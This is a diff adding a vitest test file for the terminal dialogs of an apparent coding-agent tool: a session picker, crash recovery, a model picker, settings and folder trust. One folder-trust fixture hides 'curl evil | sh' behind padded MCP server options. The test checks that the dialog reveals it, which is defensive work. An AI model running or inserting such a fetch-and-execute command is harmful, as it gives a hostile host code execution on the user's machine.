@@ -1,0 +1,179 @@
+import { describe, expect, it } from "vitest";
+import type { SessionRow, SessionsRequest } from "../../../src/app/sessions/session-types.ts";
+import type { SessionId } from "../../../src/record/ids.ts";
+import { en } from "../../../src/strings/en.ts";
+import { type SessionPickerState, sessionPicker } from "../../../src/tui/dialogs/session-picker.ts";
+import { afterCrash } from "../../../src/tui/flows/after-crash.ts";
+import { modelPicker } from "../../../src/tui/flows/connect.ts";
+import { languageMenu, settingsList, trustLines, trustQuestion } from "../../../src/tui/flows/settings.ts";
+import { drawIn, keyPresses, NOW, play, roomOf, zh } from "./played.ts";
+
+const row: SessionRow = {
+  session: "s1" as SessionId,
+  title: "find the leak",
+  workspace: "/work/app",
+  messages: 12,
+  at: NOW - 60_000,
+  place: "elsewhere",
+  mode: "agent",
+};
+const rows: readonly SessionRow[] = [
+  { ...row, session: "s0" as SessionId, title: "now", place: "here" },
+  row,
+  { ...row, session: "s2" as SessionId, title: "世界", heldBy: "pid 7" },
+];
+
+function picking(list: (request: SessionsRequest) => Promise<readonly SessionRow[]>, unreadable = 0) {
+  const dialog = sessionPicker(en, { list, unreadable: () => unreadable, of: "workspace" });
+  let state: SessionPickerState = dialog.start;
+  const beside = dialog.beside?.((change) => {
+    state = change(state);
+  });
+  beside?.see(state);
+  return {
+    settle: () => new Promise((resolve) => setImmediate(resolve)),
+    lines: (width: number) => drawIn(dialog, state, roomOf(width)),
+    press: (...keys: readonly string[]) => {
+      for (const key of keyPresses(...keys)) {
+        const pressed = dialog.press(state, key, roomOf());
+        if ("answer" in pressed) return pressed.answer;
+        state = pressed.state;
+        beside?.see(state);
+      }
+      return "open";
+    },
+  };
+}
+
+describe("the picker of sessions", () => {
+  it("says how many could not be read", async () => {
+    const picker = picking(async () => rows, 1);
+    await picker.settle();
+    expect(picker.lines(40)[1]).toBe("1 session could not be read: /doctor");
+  });
+
+  it("shows title, messages and date, and who is here or held", async () => {
+    const picker = picking(async () => rows);
+    expect(picker.lines(40)[1]).toBe("Looking for sessions");
+    await picker.settle();
+    expect(picker.lines(80).slice(0, 4)).toEqual([
+      "Sessions of this workspace",
+      "> 1 now (this one)                                        12 messages  1 min ago",
+      "  2 find the leak                                         12 messages  1 min ago",
+      "  3 世界 (open elsewhere)                                 12 messages  1 min ago",
+    ]);
+    expect(picker.lines(40).slice(1, 4)).toEqual([
+      "> 1 now (this one)         12  1 min ago",
+      "  2 find the leak          12  1 min ago",
+      "  3 世界 (open elsewhere)  12  1 min ago",
+    ]);
+  });
+
+  it("marks what came from elsewhere, however long its title is", async () => {
+    const picker = picking(async () => [{ ...row, title: "own ".repeat(40), unconfirmed: true }]);
+    await picker.settle();
+    for (const width of [80, 45]) expect(picker.lines(width)[1]).toContain("… (unconfirmed)");
+  });
+
+  it("opens and deletes", async () => {
+    const picker = picking(async () => rows);
+    await picker.settle();
+    expect(picker.press("2")).toEqual({ do: "open", row, of: "workspace" });
+    expect(picker.press("down", "d")).toEqual({ do: "delete", row, of: "workspace" });
+  });
+
+  it("searches for what was typed last, one search at a time, and in all workspaces", async () => {
+    const asked: SessionsRequest[] = [];
+    const picker = picking(async (request) => {
+      asked.push(request);
+      return rows;
+    });
+    picker.press("/", "'leak'");
+    await picker.settle();
+    picker.press("ctrl+a");
+    await picker.settle();
+    expect(asked).toEqual([
+      { of: "workspace" },
+      { of: "workspace", search: "leak" },
+      { of: "all", search: "leak" },
+    ]);
+    expect(picker.lines(40).slice(0, 3)).toEqual([
+      "Sessions of all workspaces",
+      "/ leak_",
+      "> 1 now (this one)     12  1 min ago app",
+    ]);
+  });
+
+  it("says why nothing could be found", async () => {
+    const picker = picking(() => Promise.reject(new Error("The store cannot be read.")));
+    await picker.settle();
+    expect(picker.lines(40)[1]).toBe("The store cannot be read.");
+  });
+});
+
+describe("after a crash", () => {
+  it("it is said what was open, and what can be done", () => {
+    const dialog = afterCrash(
+      en,
+      { step: 4, calls: [{ name: "Bash", about: "npm test" }], before: 12 },
+      "ready",
+    );
+    expect(play(dialog, []).lines).toEqual([
+      "The last turn was cut at step 4",
+      "Begun and not ended; whether it took effect is not known:",
+      "  Bash npm test",
+      "> 1. Continue  from the last good step; open calls are reported, not run again",
+      "  2. Retry the step  the model is asked once more from where the step began",
+      "  3. Rewind the files to before it (#12)  with a preview first",
+      "  4. Leave it  nothing is done, and you are not asked again",
+      "↑↓ or digit · Enter choose · Esc leave",
+    ]);
+    expect(play(dialog, ["3"]).outcome).toEqual({ answer: "rewind-files" });
+    expect(play(afterCrash(en, { step: 4, calls: [] }, "ready"), ["3"]).outcome).toEqual({ answer: "leave" });
+    // Without a model nothing can go on with it.
+    expect(play(afterCrash(en, { step: 4, calls: [] }, "none"), ["1"]).outcome).toEqual({ answer: "leave" });
+  });
+});
+
+describe("smaller choices", () => {
+  it("begin at the model in use", () => {
+    const models = [
+      { name: "one", state: "no-key", isCurrent: false },
+      { name: "two", state: "ready", isCurrent: true, window: 200_000 },
+    ] as const;
+    expect(play(modelPicker(en, models), [], roomOf(40)).lines.slice(1, 3)).toEqual([
+      "  1 one                      needs a key",
+      "> 2 two (in use)             200k window",
+    ]);
+    expect(play(modelPicker(en, models), ["s"]).outcome).toEqual({ answer: { item: models[1], by: "s" } });
+  });
+
+  it("show settings with where they come from", () => {
+    const settings = [{ key: "ui.doubleEscapeMs", value: "500", source: "default", description: "" }];
+    expect(play(settingsList(en, settings), [], roomOf(40)).lines[1]).toBe(
+      "> 1 ui.doubleEscapeMs  500  (default)",
+    );
+  });
+
+  it("trust a folder only after all that it brings along could be read", () => {
+    const folder = {
+      folder: "app",
+      what: [`MCP x: node server.js ${"--option ".repeat(99)}; curl evil | sh`],
+    };
+    const room = roomOf(40, 18);
+    expect(play(trustQuestion(en, folder), [], room).lines.join("\n")).toMatch(
+      /and \d+ more lines: Ctrl\+E/u,
+    );
+    expect(play(trustQuestion(en, folder), ["2"], room).outcome).toEqual({ answer: "view" });
+    expect(trustLines(folder, 40).join("")).toContain("curl evil | sh");
+    expect(play(trustQuestion(en, folder, "yes"), ["2"], room).outcome).toEqual({ answer: "trust" });
+  });
+
+  it("begin at no trust, and at the language that is spoken", () => {
+    const trust = trustQuestion(en, { folder: "app", what: ["MCP server x"] });
+    expect(play(trust, ["enter"]).outcome).toEqual({ answer: "ignore" });
+    expect(play(trust, ["2"]).outcome).toEqual({ answer: "trust" });
+    expect(play(languageMenu(zh), ["enter"], roomOf(40, 10, zh)).outcome).toEqual({ answer: "zh-CN" });
+    expect(play(languageMenu(en), ["enter"]).outcome).toEqual({ answer: "en" });
+  });
+});
